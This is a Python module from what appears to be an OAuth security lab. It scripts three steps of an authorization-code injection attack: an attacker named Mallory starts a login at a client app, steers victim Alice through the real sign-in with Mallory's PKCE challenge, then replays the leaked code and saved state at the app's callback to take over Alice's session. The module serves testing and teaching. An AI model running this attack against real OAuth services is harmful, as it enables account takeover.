"""A code leaks at one of Budget's addresses, and is brought to the other one."""

from urllib.parse import urlencode

from labs.stage import Stage, Stuck, told_in
from labs.steps import step


@step("attacker")
def mallory_begins_at_budget(stage: Stage) -> None:
    """Let Mallory begin at Budget and stop at Bank ID; make a link with her challenge and Budget's other address."""
    stage.mallory.holds_back = f"{stage.here.auth}/login"  # her own flow ends there: it is only for these two
    stage.mallory.go(f"{stage.here.budget}/connect")
    begun = told_in(stage.mallory.visited("/authorize"))
    stage.kept["state"] = begun["state"]
    stage.onward = stage.link("budget", f"{stage.here.budget}/partner", code_challenge=begun["code_challenge"])


@step("Alice")
def alice_follows_the_link(stage: Stage) -> None:
    """Follow the link: it is the real Bank ID and the real Budget; sign in as alice, and allow."""
    if not stage.onward:
        raise Stuck("there is no link yet")
    stage.alice.go(stage.onward).agree()
    stage.onward = ""


@step("attacker")
def mallory_brings_the_code_to_budget(stage: Stage) -> None:
    """Let Mallory open Budget's other address, in her own session, with the code that came; Budget redeems it."""
    code = stage.collection.newest("code")
    if not code or "state" not in stage.kept:
        raise Stuck("no code came to the attacker")
    answer = {"code": code, "state": stage.kept["state"], "iss": stage.here.auth}
    stage.mallory.holds_back = ""
    stage.mallory.go(f"{stage.callback('budget')}?{urlencode(answer)}")
